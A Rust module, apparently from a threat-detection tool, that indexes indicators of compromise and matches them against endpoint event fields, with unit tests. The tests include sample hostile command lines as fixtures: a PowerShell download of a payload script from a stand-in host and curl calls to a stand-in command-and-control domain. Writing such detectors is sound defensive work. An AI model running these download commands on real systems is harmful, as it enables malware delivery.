//! The indicators in force, indexed so that an event costs a few hash
//! lookups whatever their number, and the one rule of where each type is
//! looked for:
//!
//! | type | FDR members |
//! |---|---|
//! | SHA-256, SHA-1, MD5 | `SHA256HashData`, `SHA1HashData`, `MD5HashData` (whole value) |
//! | domain | `DomainName` (whole name; a `*.` indicator also its subdomains, label by label); with `command_line_urls`, the host of each URL in `CommandLine` |
//! | IPv4, IPv4 network | `RemoteAddressIP4`, `aip` (parsed address) |
//! | IPv6, IPv6 network | `RemoteAddressIP6` (parsed address) |
//! | URL | each `http(s)://` / `ftp://` URL in `CommandLine`, parsed |
//! | file name | the base of `ImageFileName`, `TargetFileName` (case-insensitive) |
//!
//! A value is compared whole, never as a substring: `10.0.0.1` does not match
//! `10.0.0.10`, `example.com` does not match `notexample.com` nor (unless it
//! is `*.example.com`) `a.example.com`, and a hash inside a command line is
//! never read.

use super::indicator::{self, Indicator, Kind, mask};
use rustc_hash::FxHashMap;
use std::borrow::Cow;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// The members indicators are looked for in, and the types each holds.
pub const FIELDS: &[(&str, &[Kind])] = &[
    ("SHA256HashData", &[Kind::Sha256]),
    ("SHA1HashData", &[Kind::Sha1]),
    ("MD5HashData", &[Kind::Md5]),
    ("DomainName", &[Kind::Domain]),
    ("RemoteAddressIP4", &[Kind::Ipv4, Kind::Cidr]),
    ("aip", &[Kind::Ipv4, Kind::Cidr]),
    ("RemoteAddressIP6", &[Kind::Ipv6, Kind::Cidr]),
    ("ImageFileName", &[Kind::FileName]),
    ("TargetFileName", &[Kind::FileName]),
    ("CommandLine", &[Kind::Url, Kind::Domain]),
];

/// An indicator found in an event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IocHit {
    /// Index into [`IndicatorSet::indicators`].
    pub indicator: u32,
    /// The member it was found in.
    pub field: &'static str,
    /// The member's value as the event wrote it (a URL: the URL found).
    pub value: String,
}

/// The indicators, deduplicated by [`Indicator::id`] (the first source to
/// name one keeps it; the earliest `learned` wins).
#[derive(Debug, Default)]
pub struct IndicatorSet {
    indicators: Vec<Indicator>,
    /// Per type (by `Kind as usize`): value → indicator.
    exact: [FxHashMap<Box<str>, u32>; 9],
    suffixes: FxHashMap<Box<str>, u32>,
    ipv4: FxHashMap<u32, u32>,
    ipv6: FxHashMap<u128, u32>,
    /// Networks by (is IPv4, prefix length): one lookup per length in use.
    networks: Vec<((bool, u8), FxHashMap<u128, u32>)>,
    /// The kinds present, one bit per `Kind as usize`.
    kinds: u16,
    /// Also read the hosts of URLs in command lines for domains.
    pub command_line_urls: bool,
    /// Indicators named twice (by one source or several).
    pub duplicates: u64,
}

impl IndicatorSet {
    pub fn new(indicators: Vec<Indicator>, command_line_urls: bool) -> IndicatorSet {
        let mut set = IndicatorSet {
            command_line_urls,
            ..IndicatorSet::default()
        };
        let mut by_id: FxHashMap<String, u32> = FxHashMap::default();
        for ind in indicators {
            let id = ind.id();
            if let Some(&at) = by_id.get(&id) {
                set.duplicates += 1;
                let kept = &mut set.indicators[at as usize];
                if let (Some(new), Some(old)) = (ind.learned_ms, kept.learned_ms)
                    && new < old
                {
                    kept.learned_ms = Some(new);
                }
                continue;
            }
            let Ok(n) = u32::try_from(set.indicators.len()) else {
                break;
            };
            by_id.insert(id, n);
            set.index(&ind, n);
            set.kinds |= 1 << (ind.kind as u16);
            set.indicators.push(ind);
        }
        set.networks.sort_by_key(|(k, _)| *k);
        set
    }

    fn index(&mut self, ind: &Indicator, n: u32) {
        match ind.kind {
            Kind::Ipv4 => {
                if let Ok(a) = ind.value.parse::<Ipv4Addr>() {
                    self.ipv4.insert(u32::from(a), n);
                }
            }
            Kind::Ipv6 => {
                if let Ok(a) = ind.value.parse::<Ipv6Addr>() {
                    self.ipv6.insert(u128::from(a), n);
                }
            }
            Kind::Cidr => {
                if let Ok(c) = indicator::cidr(&ind.value) {
                    let key = (c.addr.is_ipv4(), c.prefix);
                    let at = match self.networks.iter().position(|(k, _)| *k == key) {
                        Some(at) => at,
                        None => {
                            self.networks.push((key, FxHashMap::default()));
                            self.networks.len() - 1
                        }
                    };
                    self.networks[at].1.insert(c.network(), n);
                }
            }
            Kind::Domain if ind.subdomains => {
                self.suffixes.insert(ind.value.clone().into_boxed_str(), n);
            }
            kind => {
                self.exact[kind as usize].insert(ind.value.clone().into_boxed_str(), n);
            }
        }
    }

    pub fn indicators(&self) -> &[Indicator] {
        &self.indicators
    }

    pub fn get(&self, n: u32) -> Option<&Indicator> {
        self.indicators.get(n as usize)
    }

    pub fn len(&self) -> usize {
        self.indicators.len()
    }

    pub fn is_empty(&self) -> bool {
        self.indicators.is_empty()
    }

    /// Whether any indicator is of `kind`.
    pub fn has(&self, kind: Kind) -> bool {
        self.kinds & (1 << (kind as u16)) != 0
    }

    /// Whether the member at `FIELDS[slot]` holds a type some indicator has.
    fn wanted(&self, slot: usize) -> bool {
        let Some((f, kinds)) = FIELDS.get(slot) else {
            return false;
        };
        if *f == "CommandLine" {
            self.has(Kind::Url) || (self.command_line_urls && self.has(Kind::Domain))
        } else {
            kinds.iter().any(|k| self.has(*k))
        }
    }

    /// The members worth reading: those that hold a type some indicator has.
    pub fn fields(&self) -> impl Iterator<Item = &'static str> + '_ {
        (0..FIELDS.len())
            .filter(|&i| self.wanted(i))
            .map(|i| FIELDS[i].0)
    }

    /// `member`'s place in [`FIELDS`], if it is worth reading: one pass over
    /// an event's members finds every value to look at.
    pub fn slot(&self, member: &str) -> Option<usize> {
        let at = match member {
            "SHA256HashData" => 0,
            "SHA1HashData" => 1,
            "MD5HashData" => 2,
            "DomainName" => 3,
            "RemoteAddressIP4" => 4,
            "aip" => 5,
            "RemoteAddressIP6" => 6,
            "ImageFileName" => 7,
            "TargetFileName" => 8,
            "CommandLine" => 9,
            _ => return None,
        };
        self.wanted(at).then_some(at)
    }

    fn exact(&self, kind: Kind, value: &str) -> Option<u32> {
        self.exact[kind as usize].get(value).copied()
    }

    /// The domain indicators `name` (already in normal form) matches: the
    /// name itself, and each parent named as `*.parent`.
    fn domain(&self, name: &str, mut hit: impl FnMut(u32)) {
        if let Some(n) = self.exact(Kind::Domain, name) {
            hit(n);
        }
        if self.suffixes.is_empty() {
            return;
        }
        let mut rest = name;
        loop {
            if let Some(&n) = self.suffixes.get(rest) {
                hit(n);
            }
            match rest.split_once('.') {
                Some((_, parent)) if !parent.is_empty() => rest = parent,
                _ => break,
            }
        }
    }

    fn address(&self, ip: IpAddr, mut hit: impl FnMut(u32)) {
        match ip {
            IpAddr::V4(a) => {
                if let Some(&n) = self.ipv4.get(&u32::from(a)) {
                    hit(n);
                }
            }
            IpAddr::V6(a) => {
                if let Some(&n) = self.ipv6.get(&u128::from(a)) {
                    hit(n);
                }
            }
        }
        for ((v4, prefix), nets) in &self.networks {
            if *v4 != ip.is_ipv4() {
                continue;
            }
            if let Some(&n) = nets.get(&mask(ip, *prefix)) {
                hit(n);
            }
        }
    }

    /// Looks for the indicators in one member's value (a string's content).
    pub fn match_field(&self, field: &'static str, value: &str, out: &mut Vec<IocHit>) {
        let mut push = |n: u32, v: &str| {
            out.push(IocHit {
                indicator: n,
                field,
                value: v.to_owned(),
            });
        };
        match field {
            "SHA256HashData" | "SHA1HashData" | "MD5HashData" => {
                let kind = match field {
                    "SHA256HashData" => Kind::Sha256,
                    "SHA1HashData" => Kind::Sha1,
                    _ => Kind::Md5,
                };
                if !self.has(kind) {
                    return;
                }
                let v = value.trim();
                let lower: Cow<'_, str> = if v.bytes().any(|b| b.is_ascii_uppercase()) {
                    Cow::Owned(v.to_ascii_lowercase())
                } else {
                    Cow::Borrowed(v)
                };
                if let Some(n) = self.exact(kind, &lower) {
                    push(n, value);
                }
            }
            "DomainName" => {
                if !self.has(Kind::Domain) {
                    return;
                }
                if let Some(d) = indicator::event_domain(value) {
                    self.domain(&d, |n| push(n, value));
                }
            }
            "RemoteAddressIP4" | "aip" | "RemoteAddressIP6" => {
                if !(self.has(Kind::Ipv4) || self.has(Kind::Ipv6) || self.has(Kind::Cidr)) {
                    return;
                }
                if let Ok(ip) = value.trim().parse::<IpAddr>() {
                    self.address(ip, |n| push(n, value));
                }
            }
            "ImageFileName" | "TargetFileName" => {
                if !self.has(Kind::FileName) {
                    return;
                }
                let base = indicator::base_name(value.trim());
                if base.is_empty() {
                    return;
                }
                if let Some(n) = self.exact(Kind::FileName, &base.to_lowercase()) {
                    push(n, value);
                }
            }
            "CommandLine" => self.command_line(value, out),
            _ => {}
        }
    }

    /// URLs in a command line: each `scheme://` run up to a space, a quote
    /// or a bracket, parsed; compared with URL indicators and, when asked,
    /// its host with domain indicators.
    fn command_line(&self, line: &str, out: &mut Vec<IocHit>) {
        let urls = self.has(Kind::Url);
        let hosts = self.command_line_urls && self.has(Kind::Domain);
        if !(urls || hosts) {
            return;
        }
        let mut seen = 0usize;
        for at in memchr::memmem::find_iter(line.as_bytes(), b"://") {
            seen += 1;
            if seen > 64 {
                break;
            }
            // The scheme: the letters just before.
            let start = line[..at]
                .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '-' || c == '.'))
                .map_or(0, |i| i + 1);
            let scheme = &line[start..at];
            if !matches!(
                scheme.to_ascii_lowercase().as_str(),
                "http" | "https" | "ftp" | "hxxp" | "hxxps"
            ) {
                continue;
            }
            let end = line[at..]
                .find(|c: char| {
                    c.is_whitespace()
                        || matches!(
                            c,
                            '"' | '\'' | '<' | '>' | '`' | '|' | '^' | ')' | ';' | ','
                        )
                })
                .map_or(line.len(), |e| at + e);
            let text = &line[start..end];
            let Ok(url) = indicator::url(&indicator::refang(text)) else {
                continue;
            };
            if urls && let Some(n) = self.exact(Kind::Url, &url) {
                out.push(IocHit {
                    indicator: n,
                    field: "CommandLine",
                    value: text.to_owned(),
                });
            }
            if hosts
                && let Ok(u) = url::Url::parse(&url)
                && let Some(url::Host::Domain(h)) = u.host()
            {
                self.domain(h, |n| {
                    out.push(IocHit {
                        indicator: n,
                        field: "CommandLine",
                        value: text.to_owned(),
                    });
                });
            }
        }
    }

    /// Looks for the indicators in an event, reading members through `get`
    /// (a string member's content); hits go to `out`.
    pub fn match_event<'a>(
        &self,
        get: impl Fn(&str) -> Option<Cow<'a, str>>,
        out: &mut Vec<IocHit>,
    ) {
        if self.indicators.is_empty() {
            return;
        }
        for field in self.fields() {
            if let Some(v) = get(field) {
                self.match_field(field, &v, out);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ioc::formats::{self, Format, Options};

    fn set(csv: &str, urls: bool) -> IndicatorSet {
        let p = formats::parse(Format::Csv, "t.csv", csv, &Options::default());
        assert!(p.problems.is_empty(), "{:?}", p.problems);
        IndicatorSet::new(p.indicators, urls)
    }

    #[test]
    fn slots_are_the_fields_places() {
        let s = set(
            "sha256,aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n\
             sha1,aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nmd5,aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n\
             domain,a.example\nipv4,192.0.2.1\nipv6,2001:db8::1\nfilename,a.exe\n\
             url,http://a.example/x\n",
            false,
        );
        for (i, (f, _)) in FIELDS.iter().enumerate() {
            assert_eq!(s.slot(f), Some(i), "{f}");
        }
        assert_eq!(s.slot("CommandLine2"), None);
        let only_hashes = set(
            "sha256,aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n",
            false,
        );
        assert_eq!(only_hashes.slot("SHA256HashData"), Some(0));
        assert_eq!(only_hashes.slot("DomainName"), None);
        assert_eq!(only_hashes.fields().collect::<Vec<_>>(), ["SHA256HashData"]);
    }

    fn hits(s: &IndicatorSet, members: &[(&str, &str)]) -> Vec<String> {
        let mut out = Vec::new();
        s.match_event(
            |m| {
                members
                    .iter()
                    .find(|(k, _)| *k == m)
                    .map(|(_, v)| Cow::Owned((*v).to_owned()))
            },
            &mut out,
        );
        out.iter()
            .map(|h| format!("{}@{}", s.get(h.indicator).unwrap().id(), h.field))
            .collect()
    }

    const SHA: &str = "4f1b3c8a9e0d7f26b5a4c3e2d1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2";

    #[test]
    fn whole_values_only() {
        let s = set(
            &format!(
                "sha256,{SHA}\nip,10.0.0.1\ndomain,example.com\ndomain,*.evil.test\nfilename,dropper.exe\nip,198.51.100.0/24\nip,2001:db8::/32\n"
            ),
            false,
        );
        assert_eq!(
            hits(&s, &[("SHA256HashData", &SHA.to_uppercase())]),
            vec![format!("sha256:{SHA}@SHA256HashData")]
        );
        // A hash inside a command line, or a prefix of one, is not a match.
        assert!(
            hits(
                &s,
                &[("CommandLine", &format!("certutil -hashfile x {SHA}"))]
            )
            .is_empty()
        );
        assert!(hits(&s, &[("SHA256HashData", &SHA[..63])]).is_empty());
        // An IP must not match a longer IP.
        assert!(hits(&s, &[("RemoteAddressIP4", "10.0.0.10")]).is_empty());
        assert!(hits(&s, &[("RemoteAddressIP4", "110.0.0.1")]).is_empty());
        assert_eq!(hits(&s, &[("aip", "10.0.0.1")]), vec!["ipv4:10.0.0.1@aip"]);
        assert_eq!(
            hits(&s, &[("RemoteAddressIP4", "198.51.100.77")]),
            vec!["cidr:198.51.100.0/24@RemoteAddressIP4"]
        );
        assert_eq!(
            hits(&s, &[("RemoteAddressIP6", "2001:DB8:0::5")]),
            vec!["cidr:2001:db8::/32@RemoteAddressIP6"]
        );
        // A domain not its parent, nor a longer name, nor a subdomain unless asked.
        assert!(hits(&s, &[("DomainName", "notexample.com")]).is_empty());
        assert!(hits(&s, &[("DomainName", "a.example.com")]).is_empty());
        assert!(hits(&s, &[("DomainName", "com")]).is_empty());
        assert_eq!(
            hits(&s, &[("DomainName", "Example.COM.")]),
            vec!["domain:example.com@DomainName"]
        );
        assert_eq!(
            hits(&s, &[("DomainName", "x.y.evil.test")]),
            vec!["domain:*.evil.test@DomainName"]
        );
        assert_eq!(
            hits(&s, &[("DomainName", "evil.test")]),
            vec!["domain:*.evil.test@DomainName"]
        );
        assert!(hits(&s, &[("DomainName", "notevil.test")]).is_empty());
        assert_eq!(
            hits(
                &s,
                &[(
                    "ImageFileName",
                    "\\Device\\HarddiskVolume3\\Users\\a\\DROPPER.EXE"
                )]
            ),
            vec!["file-name:dropper.exe@ImageFileName"]
        );
        assert!(hits(&s, &[("ImageFileName", "C:\\x\\notdropper.exe")]).is_empty());
        assert!(hits(&s, &[("CommandLine", "dropper.exe --run")]).is_empty());
    }

    #[test]
    fn urls_in_command_lines() {
        let s = set(
            "url,http://evil.example/payload.ps1\ndomain,c2.example\n",
            false,
        );
        assert_eq!(
            hits(
                &s,
                &[(
                    "CommandLine",
                    "powershell -c \"iwr HTTP://EVIL.example/payload.ps1 -o x\""
                )]
            ),
            vec!["url:http://evil.example/payload.ps1@CommandLine"]
        );
        assert!(
            hits(
                &s,
                &[("CommandLine", "iwr http://evil.example/payload.ps1x")]
            )
            .is_empty()
        );
        // Hosts of URLs are read for domains only when asked.
        assert!(hits(&s, &[("CommandLine", "curl https://c2.example/x")]).is_empty());
        let s = set("domain,c2.example\n", true);
        assert_eq!(
            hits(&s, &[("CommandLine", "curl 'https://c2.example/x'")]),
            vec!["domain:c2.example@CommandLine"]
        );
        assert!(hits(&s, &[("CommandLine", "curl https://notc2.example/x")]).is_empty());
    }

    #[test]
    fn duplicates_keep_the_earliest_learned() {
        let mut a = Indicator::new(Kind::Md5, "a".repeat(32), "one");
        a.learned_ms = Some(10);
        let mut b = a.clone();
        b.source = "two".into();
        b.learned_ms = Some(5);
        let s = IndicatorSet::new(vec![a, b], false);
        assert_eq!(s.len(), 1);
        assert_eq!(s.duplicates, 1);
        assert_eq!(s.indicators()[0].source, "one");
        assert_eq!(s.indicators()[0].learned_ms, Some(5));
        assert_eq!(s.fields().collect::<Vec<_>>(), vec!["MD5HashData"]);
    }
}
